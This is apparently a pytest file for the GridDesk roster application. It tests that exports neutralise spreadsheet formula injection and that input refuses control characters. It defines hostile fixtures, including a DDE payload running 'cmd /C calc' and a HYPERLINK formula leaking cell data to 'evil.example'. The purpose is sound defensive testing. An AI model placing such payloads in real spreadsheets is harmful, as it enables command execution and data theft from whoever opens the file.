"""Formula injection and control characters (issue 14 part 7): nothing a spreadsheet would run
leaves GridDesk live, and control characters are refused at input with the field named."""

from __future__ import annotations

import csv
import io
import zipfile
from dataclasses import replace
from datetime import date

import openpyxl
import pytest

from gridDesk.domain.errors import ValidationError
from gridDesk.domain.roster import ResidentFilter
from gridDesk.domain.text import cell_text, clean_text, formula_like, neutralise
from gridDesk.services.archive_export import ArchiveService
from gridDesk.services.roster import RosterService
from gridDesk.services.roster_export import ExportService
from gridDesk.services.imports import ImportService
from gridDesk.sheets.columns import Column
from gridDesk.sheets.writer import write_template
from tests.fault.sheets import valid_id

DDE = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点这里")'
HOSTILE = (DDE, LINK, "+SUM(1,2)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1")


def test_the_rule():
    for text in HOSTILE:
        assert formula_like(text) and neutralise(text) == "'" + text
    for text in ("张三", "13800138000", "1+1", " =x", "'=x", "", "备注：-"):
        assert not formula_like(text) and neutralise(text) == text
    assert cell_text("a\x07b\x00c\x1bd") == "abcd" and cell_text("一行\n二行\t") == "一行\n二行\t"


@pytest.mark.parametrize("char", ["\x00", "\x07", "\x1b", "\x7f", "\x85", "\x0b"])
def test_control_characters_are_refused_with_the_field_named(char):
    with pytest.raises(ValidationError) as err:
        clean_text(f"张{char}三", 32, "name")
    assert err.value.field == "name" and "姓名" in err.value.message and "控制字符" in err.value.message
    with pytest.raises(ValidationError, match="备注"):
        clean_text(f"说明{char}", 2000, "notes", multiline=True)


def test_line_breaks_stay_in_notes_and_become_spaces_elsewhere():
    assert clean_text("四川省\n某某村\t3组", field="actual_address") == "四川省 某某村 3组"
    assert clean_text("第一行\r\n第二行\r第三行\n\t缩进", 2000, "notes", multiline=True) == "第一行\n第二行\n第三行\n\t缩进"


def _resident(demo, **changes):
    roster = RosterService(demo)
    rid = roster.resident_ids(ResidentFilter())[0]
    return roster, replace(roster.unmask(rid, "测试"), **changes)


def test_the_resident_dialog_path_refuses_control_characters(demo):
    roster, person = _resident(demo, notes="正常\x1b[31m红字")
    with pytest.raises(ValidationError) as err:
        roster.save_resident(person)
    assert err.value.field == "notes" and "备注" in err.value.message
    roster, person = _resident(demo, name="李\x00四")
    with pytest.raises(ValidationError, match="姓名"):
        roster.save_resident(person)


def test_an_imported_row_with_a_control_character_is_rejected_with_its_reason(demo, tmp_path):
    import xlsxwriter

    grid = RosterService(demo).tree()[0].code
    path = tmp_path / "bel.xlsx"
    book = xlsxwriter.Workbook(str(path))
    sheet = book.add_worksheet()
    sheet.write_row(0, 0, ["姓名", "身份证号", "户号", "与户主关系", "所属网格", "现居住地址"])
    sheet.write_row(1, 0, ["王五", valid_id(1), "Z1", "户主", grid, "某某村\x07"])
    sheet.write_row(2, 0, ["赵六", valid_id(2), "Z2", "户主", grid, "某某村 2 组"])
    book.close()
    preview = ImportService(demo).preview("residents", path)
    assert len(preview.new) == 1 and len(preview.rejected) == 1
    assert "现居住地址" in str(preview.rejected[0]) and "控制字符" in str(preview.rejected[0])


def test_a_household_ledger_note_with_a_control_character_rejects_only_its_row(demo, tmp_path):
    import xlsxwriter

    grid = RosterService(demo).tree()[0].code
    path = tmp_path / "households.xlsx"
    book = xlsxwriter.Workbook(str(path))
    sheet = book.add_worksheet()
    sheet.write_row(0, 0, ["户号", "住址", "所属网格", "备注"])
    sheet.write_row(1, 0, ["H-1", "某某村 1 号", grid, "备注\x1b"])
    sheet.write_row(2, 0, ["H-2", "某某村 2 号", grid, "第一行\n第二行"])
    book.close()
    preview = ImportService(demo).preview("households", path)
    assert len(preview.rejected) == 1 and "备注" in str(preview.rejected[0])
    assert [h.number for h in preview.new] == ["H-2"] and preview.new[0].notes == "第一行\n第二行"


def _stored_hostile(demo):
    """Formulas are legitimate text at input (a note may begin with '-'); they are neutralised on the way out."""
    roster, person = _resident(demo, notes=LINK, actual_address=DDE, employer="@SUM(A1)", occupation="-2+3")
    roster.save_resident(person)
    return person


def test_the_archive_package_csv_carries_no_live_formula(demo, tmp_path):
    person = _stored_hostile(demo)
    (tmp_path / "stick").mkdir()
    prepared, _report = ArchiveService(demo).export(tmp_path / "stick")
    found = list(prepared.folder.rglob("residents.csv"))
    assert found
    text = found[0].read_bytes().decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + DDE in cells and "'" + LINK in cells and "'@SUM(A1)" in cells and "'-2+3" in cells
    assert not [c for c in cells if formula_like(c)], "a live formula in residents.csv"
    assert person.name in cells
    for csv_file in prepared.folder.rglob("*.csv"):
        for row in csv.reader(io.StringIO(csv_file.read_bytes().decode("utf-8-sig"))):
            assert not [c for c in row if formula_like(c) or cell_text(c) != c], csv_file.name


def test_the_xlsx_exports_carry_text_never_a_formula(demo, tmp_path):
    _stored_hostile(demo)
    for layout in ("template", "county"):
        out = tmp_path / f"roster-{layout}.xlsx"
        written = ExportService(demo).export("residents", out, layout=layout, unmask_reason="核对")
        for path in written:
            with zipfile.ZipFile(path) as z:
                sheet = z.read("xl/worksheets/sheet1.xml")
            assert b"<f>" not in sheet and b"<f " not in sheet
            ws = openpyxl.load_workbook(path).active
            hostile = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and formula_like(c.value)]
            assert hostile, "the exported values are kept as they are"
            for cell in hostile:
                assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
            phones = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("1")
                      and len(c.value) == 11 and c.value.isdigit()]
            assert phones and not any(c.quotePrefix for c in phones)


def test_numbers_stay_numbers_and_text_columns_stay_text(tmp_path):
    columns = (Column("n", "数"), Column("t", "文本", text=True), Column("d", "日期"))
    out = tmp_path / "mixed.xlsx"
    write_template(out, "测试", columns, [(-5, "+8613800138000", date(2024, 5, 1)), (3.5, "-", None)])
    ws = openpyxl.load_workbook(out).active
    assert ws["A4"].value == -5 and ws["A4"].data_type == "n" and not ws["A4"].quotePrefix
    assert ws["B4"].value == "+8613800138000" and ws["B4"].data_type == "s" and ws["B4"].quotePrefix
    assert ws["A5"].value == 3.5 and ws["B5"].value == "-" and ws["B5"].quotePrefix


def test_control_characters_stored_before_do_not_stop_the_archive_xml():
    from gridDesk.archive.metadata import ItemRecord, StepEntry, item_xml

    record = ItemRecord("140105001001-WGSJ-2026-0001", "Z-1", "案件\x07标题", "某村综治中心", "2026-05-01", "网格事件",
                        description=(("情况描述", "说明\x1b[31m"),), steps=(StepEntry("问题上报", "2026-05-01T09:00", "张\x00三"),))
    xml = item_xml(record).decode()
    assert "案件标题" in xml and "说明[31m" in xml and "张三" in xml


def test_an_export_reason_is_one_clean_line():
    from gridDesk.domain.archive import ExportProfile

    assert ExportProfile(True, False, "乡镇\n核对").check().reason == "乡镇 核对"
    with pytest.raises(ValidationError, match="理由"):
        ExportProfile(True, False, "核对\x07").check()
